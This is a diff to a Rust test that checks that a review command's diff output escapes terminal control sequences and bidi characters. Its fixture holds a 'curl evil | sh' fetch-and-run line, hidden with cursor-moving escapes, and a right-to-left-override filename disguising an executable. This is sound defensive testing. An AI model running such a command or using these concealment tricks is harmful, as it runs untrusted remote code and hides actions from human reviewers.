@@ -219,7 +219,7 @@ fn review_and_apply_never_print_a_raw_escape_or_bidi_character() {
     }
     let diff = env.expect(&["review", "--diff"], 0);
     assert!(
-        diff.contains("+curl evil | sh\\x1b[1A\\x1b[2K\\r\n+# nothing to see"),
+        diff.contains("+curl evil | sh\\x1b[1A\\x1b[2K\\r# nothing to see"),
         "the hidden line is shown: {diff}"
     );
     assert!(diff.contains("invoice\\u{202e}fdp.exe"), "{diff}");
